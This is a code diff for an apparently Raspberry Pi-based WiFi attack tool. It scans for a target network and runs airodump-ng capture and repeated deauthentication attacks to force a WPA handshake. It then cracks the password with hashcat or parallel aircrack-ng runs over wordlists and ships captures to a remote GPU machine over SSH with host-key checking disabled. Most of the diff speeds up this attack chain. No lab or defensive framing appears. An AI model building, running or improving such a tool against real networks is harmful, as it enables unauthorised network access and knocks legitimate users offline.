+_WPA_RSN_RE = re.compile(r"WPA|RSN:")
+
 def parse_iw_scan(text):
-    """Parse `iw dev wlan0 scan` output into list of dicts."""
-    nets = []
-    current = {}
-    for line in text.splitlines():
-        line = line.strip()
-        if line.startswith("BSS "):
-            # new cell
-            if current.get("ssid"):
-                nets.append(current)
-            current = {"bssid": line.split()[1], "signal": -100, "encryption": "Open"}
-        elif line.startswith("SSID:"):
-            ssid = line[5:].strip()
-            # Filter out empty SSIDs and hidden networks
-            if ssid:
-                current["ssid"] = ssid
-        elif line.startswith("signal:"):
-            try:
-                current["signal"] = int(float(line.split()[1]))
-            except:
-                pass
-        elif "WPA" in line or "RSN:" in line:
-            current["encryption"] = "WPA/WPA2"
-        elif "WEP" in line:
-            current["encryption"] = "WEP"
-    if current.get("ssid"):
-        nets.append(current)
-    # Dedup by SSID keep best signal
+    """Parse `iw dev wlan0 scan` output into list of dicts.
+
+    Accepts either the full output string or an iterator of lines. Works
+    per BSS block with compiled regexes rather than a per-line Python loop
+    - a 30-network scan is thousands of lines, and the C-level regex walk
+    is an order of magnitude cheaper than line-by-line startswith chains.
+    """
+    if not isinstance(text, str):
+        text = "".join(text)
     best = {}
-    for n in nets:
-        if n.get("ssid") and (n["ssid"] not in best or n["signal"] > best[n["ssid"]]["signal"]):
-            best[n["ssid"]] = n
+    for block in _BSS_SPLIT_RE.split(text)[1:]:
+        net = {"bssid": _parse_bssid(block[:17]) or "",
+               "signal": -100, "encryption": "Open"}
+        ssid_m = _SSID_LINE_RE.search(block)
+        if not ssid_m:
+            continue  # skip hidden/empty SSIDs
+        net["ssid"] = ssid_m.group(1)
+        signal_m = _SIGNAL_LINE_RE.search(block)
+        if signal_m:
+            net["signal"] = int(signal_m.group(1))
+        if _WPA_RSN_RE.search(block):
+            net["encryption"] = "WPA/WPA2"
+        elif "WEP" in block:
+            net["encryption"] = "WEP"
+        # Dedup by SSID keep best signal
+        prev = best.get(net["ssid"])
+        if prev is None or net["signal"] > prev["signal"]:
+            best[net["ssid"]] = net
     return list(best.values())
 
 def get_target_channel(target_bssid, scan_iface):
@@ -693,15 +1123,14 @@ def get_target_channel(target_bssid, scan_iface):
                     for j in range(max(0, i-5), min(len(lines), i+10)):
                         if 'Channel:' in lines[j] or 'Frequency:' in lines[j]:
                             # Extract channel number
-                            import re
-                            channel_match = re.search(r'Channel:?(\d+)', lines[j])
+                            channel_match = _CHANNEL_RE.search(lines[j])
                             if channel_match:
                                 channel = int(channel_match.group(1))
                                 logger.info(f"Found {target_bssid} on channel {channel}")
                                 return channel
                             
                             # Extract from frequency
-                            freq_match = re.search(r'(\d+\.\d+) GHz', lines[j])
+                            freq_match = _FREQ_GHZ_RE.search(lines[j])
                             if freq_match:
                                 freq = float(freq_match.group(1))
                                 channel = frequency_to_channel(freq)
@@ -717,31 +1146,24 @@ def get_target_channel(target_bssid, scan_iface):
         return None
 
 def frequency_to_channel(freq_ghz):
-    """Convert frequency to WiFi channel"""
+    """Convert frequency to WiFi channel.
+
+    Closed-form arithmetic instead of per-channel float-equality branches,
+    which were fragile against values round-tripped through string parsing.
+    """
     try:
-        # 2.4GHz channels
-        if 2.4 <= freq_ghz <= 2.5:
-            if freq_ghz == 2.412: return 1
-            elif freq_ghz == 2.417: return 2
-            elif freq_ghz == 2.422: return 3
-            elif freq_ghz == 2.427: return 4
-            elif freq_ghz == 2.432: return 5
-            elif freq_ghz == 2.437: return 6
-            elif freq_ghz == 2.442: return 7
-            elif freq_ghz == 2.447: return 8
-            elif freq_ghz == 2.452: return 9
-            elif freq_ghz == 2.457: return 10
-            elif freq_ghz == 2.462: return 11
-            else:
-                # Calculate for 2.4GHz range
-                return int(((freq_ghz - 2.412) * 1000 + 5) // 5) + 1
-        
+        freq_mhz = int(round(freq_ghz * 1000))
+
+        # 2.4GHz: channels 1-13 sit on 2412 + 5*(n-1); channel 14 is special
+        if 2412 <= freq_mhz <= 2484:
+            return 14 if freq_mhz == 2484 else (freq_mhz - 2407) // 5
+
         # 5GHz channels (simplified)
-        elif 5.0 <= freq_ghz <= 6.0:
-            return int((freq_ghz - 5.0) * 200 + 36)
-        
+        if 5000 <= freq_mhz <= 6000:
+            return (freq_mhz - 5000) // 5
+
         return None
-    except:
+    except (TypeError, ValueError):
         return None
 
 def perform_deauth_attack(target_bssid, mon_iface, duration=10, target_channel=None):
@@ -790,17 +1212,49 @@ def perform_deauth_attack(target_bssid, mon_iface, duration=10, target_channel=N
         return False
 
 def kill_process_tree(pids):
-    """Kill process tree for given PIDs"""
+    """Kill process tree for given PIDs.
+
+    The registered pid is often sudo's, with the real tool (airodump-ng
+    etc.) running as a root child in the same session group - so the
+    killpg always runs. pidfd_send_signal is sent first where available
+    purely to close the reaped-PID race on the group leader itself; a
+    pidfd hit must never skip the group kill, or sudo dies while its
+    child keeps the monitor interface.
+    """
+    pidfds = attack_state.get("proc_pidfds", {})
     for pid in pids:
+        fd = pidfds.pop(pid, None)
+        pidfd_ok = False
+        if fd is not None:
+            try:
+                signal.pidfd_send_signal(fd, signal.SIGKILL)
+                pidfd_ok = True
+                logger.info(f"Killed process {pid} via pidfd")
+            except OSError as e:
+                logger.debug(f"pidfd kill of {pid} failed ({e})")
+            finally:
+                try:
+                    os.close(fd)
+                except OSError:
+                    pass
         try:
             logger.info(f"Killing process group {pid}")
             os.killpg(pid, signal.SIGKILL)
         except Exception as e:
-            logger.warning(f"Failed to kill process {pid}: {e}")
+            if pidfd_ok:
+                # leader already reaped after the pidfd kill - expected
+                logger.debug(f"Process group {pid} already gone: {e}")
+            else:
+                logger.warning(f"Failed to kill process {pid}: {e}")
 
 # ------------- ATTACK WORKER ------------
 def attack_worker(target_ssid):
     """Main attack worker thread"""
+    # Validator subprocesses are kept off the /status cores via the
+    # taskset prefix in _pin_cmd - deliberately NOT sched_setaffinity
+    # here, which every child (airodump, conversion, the cracking race)
+    # would inherit and be squeezed onto two cores.
+
     with state_lock:
         attack_state.update({
             "running": True,
@@ -810,6 +1264,7 @@ def attack_worker(target_ssid):
             "result": "",
             "start_ts": time.time(),
             "proc_pids": [],
+            "proc_pidfds": {},
             "last_update": time.time(),
             "sub_progress": 0,
             "phase": "preparing",
@@ -819,6 +1274,8 @@ def attack_worker(target_ssid):
             "networks_found": 0,
             "target_bssid": ""
         })
+        _bump_rev()
+    gpu_result_event.clear()  # drop any stale signal from a previous attack
 
     try:
         # Check if monitor interface is available
@@ -846,7 +1303,7 @@ def attack_worker(target_ssid):
         
         # Try scan with retry on device busy
         for attempt in range(3):
-            rc, scan_out, err = run_cmd(f"sudo iw dev {scan_iface} scan", timeout=30)
+            rc, scan_out, err = run_cmd(f"{SUDO}iw dev {scan_iface} scan", timeout=30)
             if rc == 0:
                 break
             elif "Device or resource busy" in err:
@@ -865,25 +1322,15 @@ def attack_worker(target_ssid):
             target_bssid = None
         
         if rc == 0 and scan_out:
-            # Extract BSSID from scan output - look for the target SSID
-            lines = scan_out.splitlines()
-            current_bssid = None
-            
-            for i, line in enumerate(lines):
-                if line.strip().startswith("BSS "):
-                    # Extract just the MAC address, remove any extra characters
-                    bssid_part = line.split()[1]
-                    # Use regex to extract only valid MAC address format
-                    import re
-                    mac_match = re.search(r'([0-9a-fA-F]{2}:[0-9a-fA-F]{2}:[0-9a-fA-F]{2}:[0-9a-fA-F]{2}:[0-9a-fA-F]{2}:[0-9a-fA-F]{2})', bssid_part)
-                    current_bssid = mac_match.group(1) if mac_match else None
-                elif line.strip().startswith("SSID:") and target_ssid in line:
-                    if current_bssid:
-                        target_bssid = current_bssid
-                        logger.info(f"Found target BSSID: {target_bssid} for SSID: {target_ssid}")
-                        step_update("Target network located", 15, "scanning", 100, 
-                                  {"target_bssid": target_bssid})
-                        break
+            # Build the SSID->BSSID map in one C-level regex sweep instead of
+            # walking every line in Python carrying BSSID state through the loop
+            bss_map = {ssid.strip(): mac.lower()
+                       for mac, ssid in _BSS_BLOCK_RE.findall(scan_out)}
+            target_bssid = bss_map.get(target_ssid)
+            if target_bssid:
+                logger.info(f"Found target BSSID: {target_bssid} for SSID: {target_ssid}")
+                step_update("Target network located", 15, "scanning", 100,
+                          {"target_bssid": target_bssid})
         
         if not target_bssid:
             logger.warning(f"Could not find BSSID for target SSID: {target_ssid}")
@@ -942,17 +1389,21 @@ def attack_worker(target_ssid):
         
         logger.info(f"Running airodump command: {' '.join(airodump_cmd)}")
         
+        # Discard airodump's terminal output - everything useful lands in the
+        # pcap on disk. Holding an unread PIPE here let the 64KiB pipe buffer
+        # fill during long captures, blocking airodump mid-capture.
         p = subprocess.Popen(
             airodump_cmd,
             preexec_fn=os.setsid,
-            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
         )
         register_pid(p.pid)
         
-        # Wait longer for airodump to start and capture some packets
+        # Let airodump initialize, but bail out of the wait as soon as a
+        # handshake lands on disk - the 15s is an upper bound, not a timer
         step_update("Starting packet capture", 25, "capture", 25)
-        time.sleep(15)  # Increased from 10s to 15s for better initialization
-        
+        _sleep_until_handshake(cap_file_base, 15)
+
         # Perform deauth attack if we have target BSSID
         if target_bssid:
             step_update("Forcing handshake capture", 30, "capture", 50)
@@ -960,56 +1411,39 @@ def attack_worker(target_ssid):
             for round_num in range(3):
                 logger.info(f"Deauth round {round_num + 1}/3")
                 perform_deauth_attack(target_bssid, mon_iface, duration=10, target_channel=target_channel)
-                time.sleep(5)  # Wait between rounds
+                if _sleep_until_handshake(cap_file_base, 5):
+                    logger.info("Handshake captured - skipping remaining deauth rounds")
+                    break
             step_update("Deauth attack completed", 35, "capture", 75)
         else:
             step_update("Passive handshake capture", 30, "capture", 50)
-            time.sleep(45)  # Increased from 30s to 45s for passive capture
+            _sleep_until_handshake(cap_file_base, 45)
             step_update("Passive capture completed", 35, "capture", 75)
-        
-        # Additional capture time after deauth
+
+        # Additional capture time after deauth (skipped once handshake is seen)
         step_update("Finalizing capture", 37, "capture", 85)
-        time.sleep(10)  # Extra time to ensure handshake is captured
-        
-        # Stop airodump
-        try:
-            os.killpg(p.pid, signal.SIGINT)
-        except:
-            pass
+        _sleep_until_handshake(cap_file_base, 10)
         
-        # Wait for process to finish and get output
-        try:
-            stdout, stderr = p.communicate(timeout=5)
-            if stderr:
-                logger.warning(f"Airodump stderr: {stderr}")
-        except:
-            pass
-        
-        time.sleep(2)
+        # Stop airodump with escalating signals - worst case ~3s instead of
+        # the old SIGINT + 5s wait + 2s sleep, and no leaked process group
+        _graceful_pgid_kill(p)
 
         # Validate handshake capture - check multiple possible file extensions
         step_update("Validating handshake", 40, "capture", 90)
         
-        # airodump-ng can create files with different suffixes
-        possible_files = [
-            Path(str(cap_file_base) + ".cap"),
-            Path(str(cap_file_base) + ".pcap"),
-            Path(str(cap_file_base) + "-01.cap"),
-            Path(str(cap_file_base) + "-01.pcap")
-        ]
-        
-        cap_pcap_file = None
-        for possible_file in possible_files:
-            if possible_file.exists():
-                cap_pcap_file = possible_file
-                logger.info(f"Found capture file: {cap_pcap_file}")
-                break
-        
-        if not cap_pcap_file:
-            # List files in capture directory for debugging
-            files_in_dir = list(CAP_DIR.glob(f"{cap_basename}*"))
-            logger.error(f"No capture file found. Files in {CAP_DIR}: {files_in_dir}")
-            raise Exception(f"Capture file not created. Expected files: {[str(f) for f in possible_files]}")
+        # airodump-ng can create files with different suffixes - one glob
+        # covers them all, ordered to prefer .cap and the shortest name
+        candidates = sorted(
+            CAP_DIR.glob(f"{cap_basename}*"),
+            key=lambda p: ({"cap": 0, "pcap": 1}.get(p.suffix[1:], 9), len(p.name)))
+        cap_pcap_file = candidates[0] if candidates else None
+
+        if cap_pcap_file:
+            logger.info(f"Found capture file: {cap_pcap_file}")
+            _cap_index_add(cap_pcap_file)
+        else:
+            logger.error(f"No capture file found for {cap_basename} in {CAP_DIR}")
+            raise Exception(f"Capture file not created for base: {cap_file_base}")
         
         # Validate file size first
         file_size = cap_pcap_file.stat().st_size
@@ -1070,48 +1504,192 @@ def attack_worker(target_ssid):
                 logger.error("No wordlists available for attack")
                 raise Exception("No wordlists found")
             
-            # Try each wordlist on Pi
+            # The aircrack-ng fallback races the wordlists across the Pi's 4
+            # cores instead of queueing them - aircrack uses one core per
+            # invocation, so running the lists concurrently is a near-linear
+            # wall-clock win whenever the password lives in the 2nd or 3rd
+            # list. (hashcat is NOT raced - see pi_hashcat_all.)
             max_wordlists = min(3, len(wordlists))
-            for i, wordlist_info in enumerate(wordlists[:max_wordlists]):
-                wordlist_path = wordlist_info["path"]
+            per_list_timeout = min(ATTACK_TIMEOUT_SEC // max_wordlists, 180)
+
+            # Convert the capture to hashcat's 22000 format once. hashcat's
+            # -O kernels use the ARMv8 SHA extensions on a Pi 4/5, which
+            # aircrack-ng's scalar SHA1 code does not - a multi-x win on the
+            # PBKDF2 inner loop. Fall back to aircrack-ng when the hcx tools
+            # are missing or the capture yields no crackable hashes.
+            hc_hash_file = None
+            if _which("hcxpcapngtool")[0] == 0 and _which("hashcat")[0] == 0:
+                converted = Path(f"{cap_pcap_file}.22000")
+                rc_hc, _, _ = run_cmd(
+                    f"hcxpcapngtool -o {converted} {cap_pcap_file}", timeout=30)
+                if rc_hc == 0 and converted.exists() and converted.stat().st_size > 0:
+                    hc_hash_file = converted
+                    logger.info(f"Converted capture to {converted.name} for hashcat")
+                else:
+                    logger.info("hcxpcapngtool found no crackable hashes - using aircrack-ng")
+
+            def pi_hashcat_all(wordlist_paths):
+                """Single hashcat -m 22000 run over every wordlist.
+
+                hashcat drives all four cores by itself, so racing several
+                instances (the aircrack model) only oversubscribes the Pi -
+                one invocation takes the plain lists as multiple dictionary
+                arguments. Gzipped lists can't be passed that way; each gets
+                a sequential gunzip-to-stdin pass, reached only when the
+                plain lists miss.
+                """
+                outfile = Path(f"/tmp/pistorm-hc-{os.getpid()}.txt")
+                try:
+                    outfile.unlink()
+                except OSError:
+                    pass
+                hc_cmd = ["hashcat", "-m", "22000", "-a", "0", "-w", "3", "-O",
+                          "--quiet", "--potfile-disable",
+                          "--outfile", str(outfile), "--outfile-format", "2",
+                          str(hc_hash_file)]
+                plain = [p for p in wordlist_paths if not p.endswith('.gz')]
+                gzipped = [p for p in wordlist_paths if p.endswith('.gz')]
+                batches = ([plain] if plain else []) + [[p] for p in gzipped]
+                deadline = time.time() + min(ATTACK_TIMEOUT_SEC,
+                                             per_list_timeout * len(wordlist_paths))
+                for batch in batches:
+                    remaining = deadline - time.time()
+                    if remaining <= 0:
+                        break
+                    procs = []
+                    if batch[0].endswith('.gz'):
+                        gz = subprocess.Popen(["gunzip", "-c", batch[0]],
+                                              stdout=subprocess.PIPE,
+                                              preexec_fn=os.setsid)
+                        procs.append(gz)
+                        # no wordlist argument -> hashcat reads candidates on stdin
+                        hc = subprocess.Popen(hc_cmd, stdin=gz.stdout,
+                                              stdout=subprocess.DEVNULL,
+                                              stderr=subprocess.DEVNULL,
+                                              preexec_fn=os.setsid)
+                        gz.stdout.close()
+                    else:
+                        hc = subprocess.Popen(hc_cmd + batch,
+                                              stdout=subprocess.DEVNULL,
+                                              stderr=subprocess.DEVNULL,
+                                              preexec_fn=os.setsid)
+                    procs.append(hc)
+                    for stage in procs:
+                        register_pid(stage.pid)
+                    logger.info(f"Launching Pi hashcat on {len(batch)} wordlist(s)")
+                    try:
+                        hc.wait(timeout=remaining)
+                    except subprocess.TimeoutExpired:
+                        kill_process_tree([stage.pid for stage in procs])
+                    try:
+                        cracked = outfile.read_text().strip().splitlines()
+                        if cracked:
+                            outfile.unlink()
+                            # outfile-format 2 lines are the bare password -
+                            # return it whole, ':' is legal in a passphrase
+                            return cracked[-1]
+                    except OSError:
+                        pass
+                try:
+                    outfile.unlink()
+                except OSError:
+                    pass
+                return None
+
+            def pi_crack_one(wordlist_path):
+                """Run one cracking pass, return (name, pid, password or None).
+
+                The pipeline is chained with Popen instead of shell=True, so
+                no /bin/sh fork per wordlist and wordlist_path never touches
+                a shell parser.
+                """
                 wordlist_name = os.path.basename(wordlist_path)
-                logger.info(f"Trying wordlist {i+1}/{max_wordlists}: {wordlist_path}")
-                
-                base_progress = 75 + (i * 8)  # 75, 83, 91
-                step_update(f"Pi attacking with {wordlist_name}", base_progress, "cracking", 0,
-                           {"current_wordlist": wordlist_name})
-                
-                # Handle compressed wordlists
+                # awk drops candidates outside the WPA 8-63 byte range -
+                # typical lists are 30-50% out-of-range lines, and aircrack
+                # would PBKDF2-hash every one of them. LC_ALL=C keeps awk
+                # counting bytes instead of decoding UTF-8.
+                awk_env = dict(os.environ, LC_ALL="C")
+                length_filter = ["awk", "length>=8 && length<=63"]
+                procs = []
                 if wordlist_path.endswith('.gz'):
-                    cmd = f"gunzip -c {wordlist_path} | aircrack-ng -w - -q {cap_pcap_file}"
+                    gz = subprocess.Popen(["gunzip", "-c", wordlist_path],
+                                          stdout=subprocess.PIPE,
+                                          preexec_fn=os.setsid)
+                    procs.append(gz)
+                    awk = subprocess.Popen(length_filter, stdin=gz.stdout,
+                                           stdout=subprocess.PIPE, env=awk_env,
+                                           preexec_fn=os.setsid)
+                    gz.stdout.close()  # let gunzip see SIGPIPE if awk dies
                 else:
-                    cmd = f"aircrack-ng -w {wordlist_path} -q {cap_pcap_file}"
-                
+                    awk = subprocess.Popen(length_filter + [wordlist_path],
+                                           stdout=subprocess.PIPE, env=awk_env,
+                                           preexec_fn=os.setsid)
+                procs.append(awk)
+                ac_cmd = ["aircrack-ng", "-w", "-", "-q", str(cap_pcap_file)]
                 if target_bssid:
-                    cmd += f" -b {target_bssid}"
-                
-                # Update progress during attack
-                step_update(f"Running Pi {wordlist_name}", base_progress + 3, "cracking", 50,
-                           {"current_wordlist": wordlist_name})
-                
-                rc, out, err = run_cmd(cmd, timeout=min(ATTACK_TIMEOUT_SEC // max_wordlists, 180))
-                
-                step_update(f"Processing Pi results", base_progress + 6, "cracking", 90,
-                           {"current_wordlist": wordlist_name})
-                
-                # Check for successful crack
-                import re
-                key_match = re.search(r"KEY FOUND!\s*\[\s*(.+?)\s*\]", out)
-                if key_match:
-                    pwd = key_match.group(1).strip()
+                    ac_cmd += ["-b", target_bssid]
+                logger.info(f"Launching Pi aircrack on {wordlist_name}")
+                ac = subprocess.Popen(ac_cmd, stdin=awk.stdout,
+                                      stdout=subprocess.PIPE,
+                                      stderr=subprocess.DEVNULL, text=True,
+                                      preexec_fn=os.setsid)
+                awk.stdout.close()
+                procs.append(ac)
+                for stage in procs:
+                    register_pid(stage.pid)
+                try:
+                    out, _ = ac.communicate(timeout=per_list_timeout)
+                except subprocess.TimeoutExpired:
+                    kill_process_tree([stage.pid for stage in procs])
+                    out = ""
+                key_match = _KEY_FOUND_RE.search(out)
+                return (wordlist_name, ac.pid,
+                        key_match.group(1).strip() if key_match else None)
+
+            names = [os.path.basename(w["path"]) for w in wordlists[:max_wordlists]]
+
+            if hc_hash_file:
+                step_update(f"Pi hashcat over {len(names)} wordlists", 78,
+                           "cracking", 25, {"current_wordlist": names[0]})
+                found = pi_hashcat_all([w["path"]
+                                        for w in wordlists[:max_wordlists]])
+                if found:
+                    pwd = found
                     logger.info(f"Password found: {pwd}")
                     step_update(f"Pi cracked: {pwd}", 95, "complete", 100,
-                               {"current_wordlist": wordlist_name})
-                    break
-                
-                logger.info(f"No match in {wordlist_name}")
-                step_update(f"No match in {wordlist_name}", base_progress + 7, "cracking", 100,
-                           {"current_wordlist": ""})
+                               {"current_wordlist": ""})
+                else:
+                    logger.info("No match in wordlists")
+                    step_update("No match in wordlists", 88, "cracking", 75,
+                               {"current_wordlist": ""})
+            else:
+                step_update(f"Pi attacking {len(names)} wordlists in parallel", 78,
+                           "cracking", 25, {"current_wordlist": names[0]})
+
+                with concurrent.futures.ThreadPoolExecutor(
+                        max_workers=min(os.cpu_count() or 4, max_wordlists)) as pool:
+                    futures = [pool.submit(pi_crack_one, w["path"])
+                               for w in wordlists[:max_wordlists]]
+                    for future in concurrent.futures.as_completed(futures):
+                        try:
+                            wordlist_name, worker_pid, found = future.result()
+                        except Exception as crack_err:
+                            logger.warning(f"Wordlist worker failed: {crack_err}")
+                            continue
+                        if found:
+                            pwd = found
+                            logger.info(f"Password found: {pwd}")
+                            step_update(f"Pi cracked: {pwd}", 95, "complete", 100,
+                                       {"current_wordlist": wordlist_name})
+                            # Race is over - reap the losing aircrack processes
+                            with state_lock:
+                                losers = [p for p in attack_state["proc_pids"]
+                                          if p != worker_pid]
+                            kill_process_tree(losers)
+                            break
+                        logger.info(f"No match in {wordlist_name}")
+                        step_update(f"No match in {wordlist_name}", 88,
+                                   "cracking", 75, {"current_wordlist": ""})
         
         if pwd == "NOT FOUND":
             logger.warning(f"Password not found in available wordlists")
@@ -1125,6 +1703,7 @@ def attack_worker(target_ssid):
             attack_state["running"] = False
             attack_state["phase"] = "complete"
             attack_state["last_update"] = time.time()
+            _bump_rev()
 
     except Exception as e:
         logger.error(f"Attack failed: {e}")
@@ -1133,75 +1712,193 @@ def attack_worker(target_ssid):
             attack_state["running"] = False
             attack_state["progress"] = 0
             attack_state["result"] = "FAILED"
+            _bump_rev()
     finally:
-        # ensure procs killed and cleanup
+        # ensure procs killed and cleanup; signal outside the lock
+        with state_lock:
+            pids = list(attack_state["proc_pids"])
+        kill_process_tree(pids)
         with state_lock:
-            kill_process_tree(attack_state["proc_pids"])
             attack_state["proc_pids"].clear()
+            for fd in attack_state["proc_pidfds"].values():
+                try:
+                    os.close(fd)
+                except OSError:
+                    pass
+            attack_state["proc_pidfds"].clear()
         
         # Reset monitor interface to managed mode
         mon_iface = interface_state.get("mon_iface", MON_IFACE)
         if mon_iface in interface_state.get("available_interfaces", []):
             setup_managed_mode(mon_iface)
 
+def start_attack_thread(target_ssid):
+    """Spawn the attack worker on a small-stack daemon thread.
+
+    The worker mostly sits in subprocess waits, so the default 8MB thread
+    stack is wasted address space on a Pi - 1MB is plenty for its shallow
+    call depth. An asyncio/SIGCHLD reaper would remove the thread entirely,
+    but the running-flag guard means at most one attack worker ever exists,
+    so the restructuring would save a single thread at the cost of
+    rewriting every subprocess pipeline around an event loop.
+    """
+    old_size = threading.stack_size(1024 * 1024)
+    try:
+        t = threading.Thread(target=attack_worker, args=(target_ssid,), daemon=True)
+        t.start()
+    finally:
+        threading.stack_size(old_size)
+    return t
+
+# Last published (step, prog, phase, sub_progress) signature and timestamp,
+# so repeated identical updates within a second collapse to a heartbeat
+_last_step_sig = [None, 0.0]
+
 def step_update(step, prog, phase=None, sub_progress=0, extra_info=None):
     """Update attack progress with detailed tracking"""
+    now = time.time()
+    sig = (step, prog, phase, sub_progress)
+    if extra_info is None and sig == _last_step_sig[0] and now - _last_step_sig[1] < 1.0:
+        # Nothing changed - refresh the staleness timestamp and skip the
+        # snapshot rebuild and log formatting
+        with state_lock:
+            attack_state["last_update"] = now
+        return
+
     with state_lock:
         attack_state["step"] = step
         attack_state["progress"] = prog
-        attack_state["last_update"] = time.time()
+        attack_state["last_update"] = now
         attack_state["sub_progress"] = sub_progress
-        
+
         if phase:
             attack_state["phase"] = phase
-            
+
         if extra_info:
             for key, value in extra_info.items():
                 if key in attack_state:
                     attack_state[key] = value
-    
+        _bump_rev()
+    _last_step_sig[0] = sig
+    _last_step_sig[1] = now
+
     logger.info(f"Attack progress: {step} ({prog}%) - Phase: {phase or attack_state.get('phase', 'unknown')}")
 
+def _graceful_pgid_kill(proc, timeout_each=1.0):
+    """Stop a spawned process group with escalating signals.
+
+    SIGINT first so airodump-ng can flush its capture files; escalate to
+    SIGTERM and finally SIGKILL if it ignores us, waiting at most
+    timeout_each per step. Returns True once the process is reaped.
+    """
+    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
+        try:
+            os.killpg(proc.pid, sig)
+        except (ProcessLookupError, PermissionError, OSError):
+            pass
+        try:
+            proc.wait(timeout=timeout_each)
+            return True
+        except subprocess.TimeoutExpired:
+            continue
+    return False
+
 def register_pid(pid):
-    """Register process PID for cleanup"""
+    """Register process PID (and a pidfd when supported) for cleanup"""
     with state_lock:
         attack_state["proc_pids"].append(pid)
+        if hasattr(os, "pidfd_open") and hasattr(signal, "pidfd_send_signal"):
+            try:
+                attack_state["proc_pidfds"][pid] = os.pidfd_open(pid)
+            except OSError:
+                pass
+        _bump_rev()
     logger.debug(f"Registered PID {pid}")
 
+_SANITIZE_RE = re.compile(r"[^A-Za-z0-9_.-]")
+
 def sanitize(name):
     """Sanitize filename to prevent path injection"""
-    # Remove/replace dangerous characters
-    sanitized = re.sub(r"[^A-Za-z0-9_.-]", "_", name)
-    # Prevent directory traversal
-    sanitized = sanitized.replace("..", "_")
-    # Limit length
-    return sanitized[:50]
+    # Replace dangerous characters, block traversal, and limit length
+    return _SANITIZE_RE.sub("_", name).replace("..", "_")[:50]
+
+# In-memory (mtime, name) index of captures under CAP_DIR, built lazily from
+# one scandir pass and kept current by the code paths that create captures -
+# latest-file lookups then cost no directory enumeration at all
+_cap_index = None
+_cap_index_lock = threading.Lock()
+
+def _cap_index_add(path):
+    """Record a freshly written capture in the index."""
+    global _cap_index
+    try:
+        mtime = os.stat(path).st_mtime
+    except OSError:
+        return
+    with _cap_index_lock:
+        if _cap_index is not None:
+            _cap_index.append((mtime, os.path.basename(str(path))))
+
+def _latest_capture():
+    """Newest .cap/.pcap under CAP_DIR, O(1) via the in-memory index."""
+    global _cap_index
+    with _cap_index_lock:
+        if _cap_index is None:
+            index = []
+            try:
+                with os.scandir(CAP_DIR) as it:
+                    for entry in it:
+                        if entry.name.endswith((".cap", ".pcap")):
+                            index.append(
+                                (entry.stat(follow_symlinks=False).st_mtime,
+                                 entry.name))
+            except OSError:
+                pass
+            _cap_index = index
+        if not _cap_index:
+            return None
+        name = max(_cap_index)[1]
+    return CAP_DIR / name
+
+def hash_capture_file(cap_file_path):
+    """Checksum a capture file for transfer integrity verification"""
+    h = _capture_hash()
+    with open(cap_file_path, "rb") as f:
+        for chunk in iter(lambda: f.read(1024 * 1024), b""):
+            h.update(chunk)
+    return h.hexdigest()
 
 def transfer_cap_to_gpu_pc(cap_file_path):
     """Transfer capture file to GPU PC for processing"""
-    if not ENABLE_GPU_OFFLOAD or not GPU_PC_IP:
-        logger.info("GPU offload disabled or not configured")
-        return False
-    
     try:
         logger.info(f"Transferring {cap_file_path} to GPU PC {GPU_PC_IP}")
-        
-        # Use SCP with SSH key
-        scp_cmd = [
-            "scp", "-i", SSH_KEY_PATH,
-            "-o", "StrictHostKeyChecking=no",
-            "-o", "ConnectTimeout=10",
-            str(cap_file_path),
-            f"{GPU_PC_USER}@{GPU_PC_IP}:{GPU_PC_INCOMING_DIR}/"
-        ]
-        
-        result = subprocess.run(scp_cmd, capture_output=True, text=True, timeout=30)
-        
+
+        # Persistent SSH master socket: the first transfer pays the full
+        # handshake, later ones reuse the established TCP+crypto session
+        ssh_cmd = (
+            f"ssh -i {SSH_KEY_PATH}"
+            " -o StrictHostKeyChecking=no -o ConnectTimeout=10"
+            " -o ControlMaster=auto -o ControlPath=/tmp/pistorm-ssh-%r@%h-%p"
+            " -o ControlPersist=60s"
+        )
+        dest = f"{GPU_PC_USER}@{GPU_PC_IP}:{GPU_PC_INCOMING_DIR}/"
+
+        rc_rsync, _ = _which("rsync")
+        if rc_rsync == 0:
+            # --inplace --partial: retries after a cancel only ship the delta
+            transfer_cmd = ["rsync", "-az", "--inplace", "--partial",
+                            "-e", ssh_cmd, str(cap_file_path), dest]
+        else:
+            # Fallback: scp still benefits from the ControlMaster socket
+            transfer_cmd = ["scp"] + shlex.split(ssh_cmd)[1:] + [str(cap_file_path), dest]
+
+        result = subprocess.run(transfer_cmd, capture_output=True, text=True, timeout=60)
+
         if result.returncode == 0:
-            logger.info("Successfully transferred capture file to GPU PC")
+            logger.info(f"Successfully transferred capture file to GPU PC (digest: {hash_capture_file(cap_file_path)})")
             return True
         else:
-            logger.error(f"SCP transfer failed: {result.stderr}")
+            logger.error(f"Transfer failed: {result.stderr}")
             return False
             
     except Exception as e:
@@ -1210,10 +1907,6 @@ def transfer_cap_to_gpu_pc(cap_file_path):
 
 def transfer_cap_to_gpu_pc_http(cap_file_path):
     """Transfer capture file to GPU PC via HTTP/manual copy"""
-    if not ENABLE_GPU_OFFLOAD or not GPU_PC_IP:
-        logger.info("GPU offload disabled or not configured")
-        return False
-    
     try:
         logger.info(f"Preparing {cap_file_path} for GPU PC transfer")
         
@@ -1221,13 +1914,19 @@ def transfer_cap_to_gpu_pc_http(cap_file_path):
         web_path = CAP_DIR / "for_gpu" / cap_file_path.name
         web_path.parent.mkdir(exist_ok=True)
         
-        import shutil
-        shutil.copy2(cap_file_path, web_path)
-        
-        logger.info(f"File ready for manual transfer at: {web_path}")
-        logger.info(f"Manual step: Copy {web_path} to {GPU_PC_IP}:{GPU_PC_INCOMING_DIR}")
-        
-        # For now, just prepare the file - manual transfer needed
+        # Hardlink instead of copying - web_path lives under the same CAP_DIR
+        # filesystem, so this is O(1) and spares the SD card a full
+        # pcap-sized write. Fall back to a copy if the link fails.
+        try:
+            if web_path.exists():
+                web_path.unlink()
+            os.link(cap_file_path, web_path)
+        except OSError:
+            shutil.copy2(cap_file_path, web_path)
+        
+        logger.info(f"File staged for HTTP transfer at: {web_path}")
+        logger.info(f"Transfer integrity digest: {hash_capture_file(web_path)}")
+        logger.info(f"GPU PC can pull it from /download_cap/{web_path.name}")
         return True
         
     except Exception as e:
@@ -1236,25 +1935,62 @@ def transfer_cap_to_gpu_pc_http(cap_file_path):
 
 def wait_for_gpu_result(target_ssid, timeout=300):
     """Wait for GPU PC to return cracking result"""
-    start_time = time.time()
-    
-    while time.time() - start_time < timeout:
-        # Check if we have a result
